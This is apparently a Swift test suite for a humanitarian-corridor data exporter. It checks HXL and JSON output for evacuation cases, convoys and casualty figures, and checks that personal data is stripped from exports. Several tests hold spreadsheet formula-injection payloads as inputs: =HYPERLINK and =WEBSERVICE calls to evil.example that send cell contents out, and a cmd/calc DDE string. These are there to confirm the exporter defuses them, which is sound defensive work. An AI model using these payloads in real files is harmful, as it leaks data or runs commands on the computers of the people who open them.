@testable import CorridorExport
import CorridorModel
import CorridorWire
import Testing

/// The rows of an HXL export, by hashtag.
func hxlRows(_ text: String) throws -> (headers: [String], hashtags: [String], rows: [[String: String]]) {
    let records = try CSVReader.read(Array(text.utf8))
    let headers = try #require(records.first).fields
    let hashtags = records[1].fields
    let rows = records.dropFirst(2).map { record in
        Dictionary(uniqueKeysWithValues: zip(hashtags, record.fields))
    }
    return (headers, hashtags, rows)
}

@Suite struct ExportTests {
    @Test func everyExportStartsWithHeadersThenValidHashtags() throws {
        let exports: [(String, [HXLColumn])] = [
            (CaseExport.kind, CaseExport.columns), (ListExport.kind, ListExport.columns),
            (MovementExport.kind, MovementExport.columns), (FigureExport.kind, FigureExport.columns),
        ]
        for (kind, columns) in exports {
            #expect(Set(columns.map(\.hashtag)).count == columns.count, "\(kind): a hashtag twice")
            for column in columns {
                #expect(!column.header.isEmpty)
                // #tag(+attribute)*, lower case, as the HXL standard writes them.
                let parts = column.hashtag.split(separator: "+", omittingEmptySubsequences: false)
                #expect(parts[0].hasPrefix("#"), "\(kind): \(column.hashtag)")
                for (index, part) in parts.enumerated() {
                    let name = index == 0 ? part.dropFirst() : part[...]
                    let valid = name.first.map { $0 >= "a" && $0 <= "z" } == true
                        && name.allSatisfy { ($0 >= "a" && $0 <= "z") || ($0 >= "0" && $0 <= "9") || $0 == "_" }
                    #expect(valid, "\(kind): \(column.hashtag)")
                }
            }
        }
        let text = CaseExport.hxl([])
        #expect(text == CSV.line(CaseExport.columns.map(\.header)) + CSV.line(CaseExport.columns.map(\.hashtag)))
    }

    @Test func aCaseIsOneRowOfItsOperationalPart() throws {
        let (headers, hashtags, rows) = try hxlRows(CaseExport.hxl(Samples.cases))
        #expect(headers.first == "Case ID")
        #expect(hashtags.first == "#meta+id")
        #expect(rows.count == 2)
        #expect(rows[0] == [
            "#meta+id": "C-000001", "#loc+code": "douma-hospital", "#loc+code+origin": "douma-hospital", "#status": "WAITING",
            "#date+status": "", "#indicator+precedence": "URGENT", "#indicator+num+age_months": "6", "#indicator+num+age_years": "0",
            "#indicator+age_group": "infant", "#indicator+sex": "FEMALE", "#indicator+pregnant": "no",
            "#indicator+conditions": "HEART_DISEASE BLOOD_DISEASE", "#indicator+needs": "OXYGEN INCUBATOR", "#indicator+consent": "yes",
            "#meta+companions": "", "#date+registered": "2026-11-21T10:15:00Z", "#date+registered+field": "2026-10-11",
            "#indicator+num+days_waiting": "41",
        ])
        #expect(headers.contains("Registered in the field"))
        #expect(rows[1]["#date+registered+field"] == "", "no field date: the registry's is the first")
        #expect(rows[1]["#status"] == "DECEASED")
        #expect(rows[1]["#date+status"] == "2026-11-30")
        #expect(rows[1]["#indicator+num+days_waiting"] == "")
        #expect(rows[1]["#meta+companions"] == "C-000001")
        #expect(rows[1]["#indicator+pregnant"] == "yes")
    }

    @Test func noPersonalDataEverLeavesInACaseExport() throws {
        let outputs = [CaseExport.hxl(Samples.cases), CaseExport.jsonDocument(Samples.cases, exportedAtMs: Samples.morning)]
        for output in outputs {
            for view in Samples.cases {
                let personal = try #require(view.personal)
                var secrets = [personal.name, personal.dateOfBirth, personal.clinicalNotes] + personal.contacts + personal.identityNumbers
                secrets += personal.name.split(separator: " ").map(String.init)
                secrets.append(view.case?.statusReason ?? "")
                for secret in secrets where !secret.isEmpty {
                    #expect(!output.contains(secret), "\(secret) appears in the export")
                }
            }
            #expect(!output.lowercased().contains("name"))
            #expect(!output.lowercased().contains("birth"))
        }
    }

    @Test func caseJSONIsTheCaseViewsProto3JSON() throws {
        let json = CaseExport.json(Samples.infant).text()
        let expected = CaseExport.message(Samples.infant).jsonText()
        #expect(json == expected)
        #expect(json.contains(#""siteId":"douma-hospital""#))
        #expect(json.contains(#""registeredAtMs":""#))
        #expect(json.contains(#""daysWaiting":41"#))
        #expect(!json.contains("personal"))
        // It reads back as the message it is.
        let back = try Corridor_V1_CaseView(jsonText: json)
        #expect(back == CaseExport.message(Samples.infant))
    }

    @Test func aJSONDocumentIsTheSameBytesEveryTimeAndReadsAsItsMessage() throws {
        let first = CaseExport.jsonDocument(Samples.cases, exportedAtMs: Samples.morning)
        #expect(first == CaseExport.jsonDocument(Samples.cases, exportedAtMs: Samples.morning))
        #expect(first.hasPrefix("{\n  \"cases\": [\n    {\n"))
        #expect(first.hasSuffix("  ],\n  \"count\": 2,\n  \"export\": \"cases\",\n  \"exportedAt\": \"2026-11-21T10:15:00Z\"\n}\n"))
        let document = try Corridor_V1_CasesExport(jsonText: first)
        #expect(document.cases == Samples.cases.map(CaseExport.message))
        #expect(document.count == 2)
        #expect(FigureExport.jsonDocument([], exportedAtMs: 0) == "{\n  \"figures\": [],\n  \"count\": 0,\n  \"export\": \"figures\"\n}\n")
        #expect(try Corridor_V1_FiguresExport(jsonText: FigureExport.jsonDocument([], exportedAtMs: 0)).export == "figures")
    }

    @Test func aListIsOneRowPerEntry() throws {
        let (_, _, rows) = try hxlRows(ListExport.hxl([Samples.list, Samples.emptyList]))
        #expect(rows.count == 4)
        #expect(rows.map { $0["#meta+case"] } == ["C-000001", "C-000007", "C-000030", ""])
        #expect(rows.map { $0["#indicator+num+rank"] } == ["1", "2", "3", ""])
        #expect(rows[0]["#meta+id"] == "l-29-for-29")
        #expect(rows[0]["#meta+agreement"] == "a-29")
        #expect(rows[0]["#loc+code+origin"] == "ghouta")
        #expect(rows[0]["#status+list"] == "APPROVED")
        #expect(rows[0]["#targeted"] == "29")
        #expect(rows[0]["#description+explanation"] == "URGENT; infant 6 months; waiting 41 days")
        #expect(rows[0]["#meta+companions"] == "msf-17")
        #expect(rows[1]["#status+entry"] == "STRUCK")
        #expect(rows.map { $0["#meta+companions+left"] } == ["", "", "C-000033", ""])
        #expect(!ListExport.hxl([Samples.list]).contains("shelling"), "a companion's death is named by id only")
        #expect(rows[1]["#org+code+struck_by"] == "gov")
        // HXL cells hold no line breaks or runs of spaces; the JSON keeps the text as it is.
        #expect(rows[1]["#description+reason"] == "security, \"review\" later")
        #expect(rows[3]["#meta+id"] == "l-empty")
        #expect(rows[3]["#status+list"] == "DRAFT")
        let json = ListExport.json(Samples.list).text()
        #expect(json == Corridor_V1_ListSummary(Samples.list).jsonText())
        #expect(json.contains(#""placesTaken":2"#))
        #expect(json.contains(#""security, \"review\"\nlater""#))
    }

    @Test func aConvoyIsOneRowPerCargoLineWithPlannedRemovedDelivered() throws {
        let (_, _, rows) = try hxlRows(MovementExport.hxl([Samples.convoy]))
        #expect(rows.count == 3)
        #expect(rows.map { $0["#item+name"] } == ["Food parcels", "Flour", "Medical kits, trauma"])
        #expect(rows.map { $0["#item+num+planned"] } == ["2000", "40", "100"])
        #expect(rows.map { $0["#item+num+removed"] } == ["0", "0", "70"])
        #expect(rows.map { $0["#item+num+delivered"] } == ["2000", "40", "30"])
        #expect(rows.map { $0["#org+code+removed_by"] } == ["", "", "gov"])
        #expect(rows[2]["#description+removal"] == "\"not authorised\" items")
        #expect(rows[2]["#meta+removal_stage"] == "CHECKPOINT")
        #expect(rows[2]["#date+removal"] == "2026-11-21T11:15:00Z")
        #expect(rows[2]["#date+start"] == "2026-11-21T10:15:00Z")
        #expect(rows.allSatisfy { $0["#meta+id"] == "m-convoy-1" && $0["#meta+type"] == "AID_CONVOY" && $0["#status"] == "COMPLETED" })
        #expect(rows[0]["#meta+vehicles"] == "13 TRUCK")
        #expect(rows[0]["#targeted"] == "10000")
        #expect(rows[0]["#indicator+num+incidents"] == "1")
    }

    @Test func anEvacuationIsOneRowPerPassengerByCaseIDOnly() throws {
        let text = MovementExport.hxl([Samples.evacuation])
        let (_, _, rows) = try hxlRows(text)
        #expect(rows.map { $0["#meta+case"] } == ["C-000001", "msf-17", "C-000030", "C-000032"])
        #expect(rows.map { $0["#status+passenger"] } == ["ON_MANIFEST", "REMOVED", "ON_MANIFEST", "ON_MANIFEST"])
        #expect(rows.map { $0["#loc+code+destination"] } == ["damascus-hospital", "damascus-hospital", "damascus-hospital", "damascus-hospital"])
        // A companion names the case she travels with; a case boarded without
        // its companions names who stayed behind, never why.
        #expect(rows.map { $0["#meta+case+companion_of"] } == ["", "", "", "C-000001"])
        #expect(rows.map { $0["#meta+companions+left"] } == ["", "", "C-000031", ""])
        #expect(rows.allSatisfy { $0["#item+name"] == "" })
        #expect(!text.contains("too ill"))
        #expect(!text.contains("intensive care"))
        let json = MovementExport.json(Samples.evacuation).text()
        #expect(!json.contains("too ill"))
        #expect(!json.contains("intensive care"))
        #expect(json.contains(#""companionsLeft":["C-000031"]"#))
        #expect(json.contains(#""plannedDepartureMs":""#))
        #expect(!json.contains("departedAtMs"))
    }

    @Test func convoyJSONKeepsEachRemovalAndIncident() throws {
        let json = MovementExport.json(Samples.convoy).text()
        #expect(json == Corridor_V1_Movement(Samples.convoy).jsonText())
        #expect(json.contains(#""lineId":"3""#))
        #expect(json.contains(#""\"not authorised\" items""#))
        #expect(json.contains(#""SHELLING""#))
    }

    @Test func aFigureIsOneRowWithItsSourceAndItsMeasuresColumn() throws {
        let (headers, _, rows) = try hxlRows(FigureExport.hxl(Samples.figures))
        #expect(headers.contains("Source"))
        #expect(rows.count == 7)
        #expect(rows.map { $0["#meta+source"] } == ["un-ocha", "un-ocha", "sarc", "sarc un-ocha", "sarc", "un-ocha", "sarc"])
        #expect(rows[0]["#loc+code"] == "ghouta")
        #expect(rows[0]["#date"] == "2018-02-01")
        #expect(rows[1]["#indicator+qualifier"] == "ABOUT")
        #expect(rows[1]["#description"] == "urgent medical, \"around 500\"")
        #expect(rows[2]["#indicator+num+low"] == "1000")
        #expect(rows[2]["#indicator+num+high"] == "1200")
        #expect(rows[2]["#date+end"] == "2018-03-01")
        #expect(rows[2]["#loc+code"] == "")
    }

    /// Issue 10: "about 400,000" went into #population and "almost 600" into
    /// #affected+killed as if they were counts, and a range left the
    /// measure's columns empty. Now a measure's own column holds exact counts
    /// only, +min/+max the bounds the words give (docs/hxl/README.md).
    @Test func onlyAnExactCountIsInItsMeasuresColumnAndBoundsAreMinAndMax() throws {
        let (headers, _, rows) = try hxlRows(FigureExport.hxl(Samples.figures))
        func cells(_ row: [String: String], _ tag: String) -> [String?] { [row[tag], row[tag + "+min"], row[tag + "+max"]] }
        // ABOUT 400,000 and ABOUT 500: no count, no bound.
        #expect(cells(rows[0], "#population") == ["", "", ""])
        #expect(cells(rows[1], "#inneed+evacuation") == ["", "", ""])
        #expect(rows[1]["#meta+reported_value"] == "about 500")
        // MORE_THAN 1000-1200: at least 1000.
        #expect(cells(rows[2], "#affected+killed") == ["", "1000", ""])
        #expect(rows[2]["#meta+reported_value"] == "more than 1000-1200")
        // ALMOST 600: at most 600, never 600 killed.
        #expect(cells(rows[3], "#affected+killed") == ["", "", "600"])
        #expect(rows[3]["#meta+reported_value"] == "almost 600")
        #expect(rows[3]["#indicator+qualifier"] == "ALMOST")
        // EXACT 112: the count.
        #expect(cells(rows[4], "#reached+evacuated+wounded") == ["112", "", ""])
        // EXACT 1500-2000: both bounds, no count.
        #expect(cells(rows[5], "#population+fighters") == ["", "1500", "2000"])
        #expect(rows[5]["#meta+reported_value"] == "1500-2000")
        // AT_LEAST 40.
        #expect(cells(rows[6], "#affected+bodies_recovered") == ["", "40", ""])
        for header in ["Killed (exact)", "Killed (at least)", "Killed (at most)", "Fighters (exact)", "Families (exact)", "Bodies recovered (at most)"] {
            #expect(headers.contains(header), "\(header)")
        }
    }

    // Issue 8, finding 5: free text went into CSV cells as it came, and a
    // spreadsheet ran =HYPERLINK("http://…"&K3, …) from a figure's note.
    @Test(arguments: [
        ("=HYPERLINK(\"http://evil.example/?\"&K3,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&K3,\"click\")"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'=1+1"),
        ("\r=1+1", "'=1+1"),
        ("-", "'-"),
        ("urgent medical", "urgent medical"),
        ("a=b", "a=b"),
        ("-12", "-12"),
        ("+2.5", "+2.5"),
        ("-0.75", "-0.75"),
        ("", ""),
    ])
    func aCellASpreadsheetWouldRunAsAFormulaIsDefused(written: String, cell: String) throws {
        var figure = Samples.figures[1]
        figure.note = written
        figure.reportedIn = written
        let (_, _, rows) = try hxlRows(FigureExport.hxl([figure]))
        #expect(rows.first?["#description"] == cell)
        // The numbers of the same row are numbers still.
        #expect(rows.first?["#indicator+num+low"] == "500")
        #expect(rows.first?["#meta+reported_in"] == cell)
    }

    @Test func numbersInNumericColumnsAreNeverPrefixed() {
        #expect(Cell.defused("-5") == "-5")
        #expect(Cell.defused("400000") == "400000")
        #expect(Cell.defused("-5-") == "'-5-")
        #expect(Cell.defused("-.5") == "'-.5")
        #expect(Cell.defused("--5") == "'--5")
        #expect(Cell.defused("-5e3") == "'-5e3")
    }

    @Test func everyKindOfExportDefusesItsTextCells() throws {
        let attack = "=WEBSERVICE(\"http://evil.example/\"&A3)"
        var figure = Samples.figures[0]
        figure.reportedIn = attack
        figure.note = attack
        var movement = Samples.convoy
        movement.incidents[0].description = attack
        movement.removals[0].reason = attack
        var list = Samples.list
        list.list?.title = attack
        for text in [FigureExport.hxl([figure]), MovementExport.hxl([movement]), ListExport.hxl([list])] {
            let (_, _, rows) = try hxlRows(text)
            for row in rows {
                for (hashtag, value) in row {
                    #expect(!value.hasPrefix("="), "\(hashtag) starts with '=': \(value)")
                }
            }
            #expect(text.contains("'" + attack) || text.contains("\"'" + attack.replacingOccurrences(of: "\"", with: "\"\"")))
        }
    }

    @Test func libhxlValidatesAnExportWithDefusedCells() async throws {
        var figures = Samples.figures
        figures[1].note = "=HYPERLINK(\"http://evil.example/\"&K3,\"more\")"
        figures[1].reportedIn = "@briefing"
        figures[2].note = "-1 person, +2 people"
        let result = try await HXLValidationTests.check([("figures", FigureExport.hxl(figures))])
        #expect(result.status == 0, "hxl_check.py failed:\n\(result.output)")
    }
}
